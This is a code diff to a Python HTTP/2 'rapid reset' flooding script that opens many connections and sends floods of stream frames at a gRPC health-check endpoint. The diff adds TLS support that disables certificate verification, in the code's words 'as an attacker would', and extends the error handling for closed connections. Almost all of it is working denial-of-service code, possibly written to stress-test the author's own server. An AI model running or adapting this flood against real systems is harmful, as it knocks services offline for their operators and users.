@@ -13,6 +13,9 @@ Prints one JSON line: {"sent": N, "seconds": S, "closed_by_server": K, ...}.
 
   h2_rapid_reset.py HOST PORT PAIRS [CONNS] [BATCH] [MODE]
 
+Environment H2_FLOOD_TLS=1: every connection is TLS (ALPN h2, the agent's
+certificate not verified, as an attacker would), else plaintext.
+
 MODE "reconnect" (default): CONNS processes, each reconnecting whenever the
 server closes its connection. MODE "spread": CONNS connections at once (one
 thread each, PAIRS/CONNS pairs each, no reconnect), so that every
@@ -26,6 +29,7 @@ import multiprocessing
 import os
 import select
 import socket
+import ssl
 import struct
 import sys
 import time
@@ -35,6 +39,8 @@ import h2.connection
 import h2.events
 
 METHOD = b"/grpc.health.v1.Health/Check"
+# A non-blocking socket (plain or TLS) with nothing to read or no room.
+WOULD_BLOCK = (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError)
 
 
 def frame(ftype, flags, stream_id, payload):
@@ -82,6 +88,12 @@ def flood_connection(host, port, pairs, batch):
     try:
         sock = socket.create_connection((host, port), timeout=30)
         sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        if os.environ.get("H2_FLOOD_TLS") == "1":
+            ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+            ctx.check_hostname = False
+            ctx.verify_mode = ssl.CERT_NONE
+            ctx.set_alpn_protocols(["h2"])
+            sock = ctx.wrap_socket(sock, server_hostname=host)
         conn = h2.connection.H2Connection(
             config=h2.config.H2Configuration(client_side=True,
                                              header_encoding=None))
@@ -113,7 +125,7 @@ def flood_connection(host, port, pairs, batch):
             while True:
                 try:
                     data = sock.recv(1 << 20)
-                except BlockingIOError:
+                except WOULD_BLOCK:
                     return True
                 if not data:
                     result["closed_by_server"] = True
@@ -147,7 +159,7 @@ def flood_connection(host, port, pairs, batch):
                 try:
                     n = sock.send(out_buf)
                     del out_buf[:n]
-                except BlockingIOError:
+                except WOULD_BLOCK:
                     if not block_until_done:
                         return True
                     r, w, _ = select.select([sock], [sock], [], 30)
@@ -188,7 +200,8 @@ def flood_connection(host, port, pairs, batch):
                 break
         sock.close()
     except Exception as e:  # noqa: BLE001 - reported, not raised
-        if isinstance(e, (ConnectionResetError, BrokenPipeError)):
+        if isinstance(e, (ConnectionResetError, BrokenPipeError,
+                          ssl.SSLEOFError, ssl.SSLZeroReturnError)):
             result["closed_by_server"] = True
         else:
             result["error"] = f"{type(e).__name__}: {e}"
